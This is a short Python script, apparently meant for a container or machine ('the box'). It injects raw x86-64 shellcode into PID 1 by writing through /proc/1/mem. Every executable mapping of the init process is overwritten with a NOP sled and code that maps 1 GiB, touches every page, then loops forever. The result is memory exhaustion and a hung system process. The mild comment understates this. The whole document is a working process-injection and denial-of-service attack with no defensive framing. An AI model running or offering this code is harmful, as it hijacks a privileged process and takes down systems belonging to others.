# Lets the box's first process take memory: mmap of 1 GiB, then a loop that writes to each of its pages.
import os
code = (b"\x31\xff" b"\xbe\x00\x00\x00\x40" b"\xba\x03\x00\x00\x00" b"\x41\xba\x22\x00\x00\x00"
        b"\x49\xc7\xc0\xff\xff\xff\xff" b"\x45\x31\xc9" b"\xb8\x09\x00\x00\x00" b"\x0f\x05"
        b"\xb9\x00\x00\x04\x00"  # ecx = pages
        b"\xc6\x00\x01" b"\x48\x05\x00\x10\x00\x00" b"\xff\xc9" b"\x75\xf3" b"\xeb\xfe")
with open("/proc/1/maps") as maps:
    ranges = [line.split()[0].split("-") for line in maps if " r-xp " in line and "[" not in line]
memory = os.open("/proc/1/mem", os.O_RDWR)
for first, last in ranges:
    start, size = int(first, 16), int(last, 16) - int(first, 16)
    os.pwrite(memory, b"\x90" * (size - len(code)) + code, start)
